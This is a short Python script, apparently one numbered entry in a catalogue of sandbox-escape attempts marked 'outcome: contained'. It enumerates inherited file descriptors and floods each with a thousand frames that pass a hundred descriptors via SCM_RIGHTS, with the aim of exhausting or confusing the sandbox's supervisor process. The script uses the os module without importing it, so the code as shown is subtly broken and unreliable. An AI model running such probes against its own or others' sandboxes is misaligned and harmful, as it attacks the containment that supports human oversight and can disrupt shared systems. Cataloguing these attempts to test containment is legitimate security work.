# 54. Pass descriptors to the supervisor
# outcome: contained
import array, json, socket, struct
message = json.dumps({"display": {"data": {}}}).encode()
frame = struct.pack("<IB", len(message), 0) + message
taken = array.array("i", [os.open("/dev/null", os.O_RDONLY) for _ in range(100)])
for number in range(3, 64):
    try:
        channel = socket.socket(fileno=os.dup(number))
    except OSError:
        continue
    try:
        for _ in range(1000):
            channel.sendmsg([frame], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, taken)])
    except OSError:
        pass
